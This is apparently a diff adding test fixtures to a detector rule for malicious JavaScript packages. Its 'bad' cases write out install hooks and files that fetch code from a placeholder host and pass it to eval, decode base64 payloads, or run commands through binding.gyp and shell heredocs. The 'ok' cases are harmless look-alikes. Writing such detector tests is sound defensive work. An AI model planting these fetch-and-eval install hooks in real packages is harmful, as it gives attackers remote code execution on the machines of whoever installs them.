@@ -4,6 +4,61 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a download that is handed to eval',
+      code: "fetch('https://a.example/x').then((answer) => answer.text()).then(eval);",
+    },
+    {
+      name: 'a packed text in a command of the install',
+      manifest: {
+        scripts: { postinstall: "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\" || true" },
+      },
+      code: '',
+    },
+    {
+      name: 'a download in a command of the install, with quotes that are escaped',
+      manifest: {
+        scripts: {
+          postinstall: 'npm run -s boot',
+          boot: 'sh -c "node -pe \\"fetch(\'https://a.example/x\').then((r) => r.text()).then(eval)\\""',
+        },
+      },
+      code: '',
+    },
+    {
+      name: 'a script that stands elsewhere in the manifest',
+      manifest: {
+        scripts: { postinstall: '$npm_node_execpath -e "$npm_package_config_boot"' },
+        config: { boot: "fetch('https://a.example/x').then((r) => r.text()).then(eval)" },
+      },
+      code: '',
+    },
+    {
+      name: 'a module inside a URL, in a command of the install',
+      manifest: {
+        scripts: {
+          install: 'node --input-type=module -e "await import(\'data:text/javascript;base64,Y29uc29sZS5sb2coMSk=\')"',
+        },
+      },
+      code: '',
+    },
+    {
+      name: 'a download in a binding.gyp',
+      files: {
+        'binding.gyp':
+          '{"targets":[{"sources":["<!(node -e \'fetch(`https://a.example/x`).then((r) => r.text()).then(eval)\')"]}]}',
+        'index.js': '',
+      },
+    },
+    {
+      name: 'a download in a shell script that the install runs, on several lines',
+      manifest: { scripts: { postinstall: 'sh setup.sh' } },
+      files: {
+        'index.js': '',
+        'setup.sh':
+          "#!/bin/sh\nnode - <<'EOF'\nfetch('https://a.example/x')\n  .then((r) => r.text())\n  .then((text) => eval(text));\nEOF\n",
+      },
+    },
+    {
       name: 'a function that is wrapped around the one that was given',
       code: "const wrap = require('wrap');\nconst both = (given) => wrap(given, () => atob('Y29uc29sZS5sb2coMSk='));\nconst run = both(() => '1');\neval(run());",
     },
@@ -220,6 +275,26 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'small commands of an install',
+      manifest: {
+        scripts: {
+          preinstall: 'node -e "process.exit(0)"',
+          install: 'node -e "require(\'fs\').chmodSync(\'bin.js\', 0o755)" && node -p "process.version"',
+          postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}" || node -e "console.log(\'thank you\')"',
+        },
+      },
+      files: { 'index.js': '', 'bin.js': '', 'postinstall.js': "console.log('thank you')" },
+    },
+    {
+      name: 'answers that are given to a function of that name',
+      code: "import { eval as evaluate } from './calculator.js';\nfetch('https://a.example/x').then((r) => r.text()).then(evaluate);",
+    },
+    {
+      name: 'the argument of a file that the install runs',
+      manifest: { scripts: { postinstall: 'node setup.js -e "eval(atob(\'Y29uc29sZS5sb2coMSk=\'))"' } },
+      files: { 'index.js': '', 'setup.js': '' },
+    },
     {
       name: 'the letters of a text, one by one',
       code: "const text = 'cmV0dXJuIDE7cmV0dXJuIDI7';\nfunction first(text) { return String.fromCodePoint(text.codePointAt(0)) }\nexports.run = (name) => new Function('return ' + first(text) + name)();",
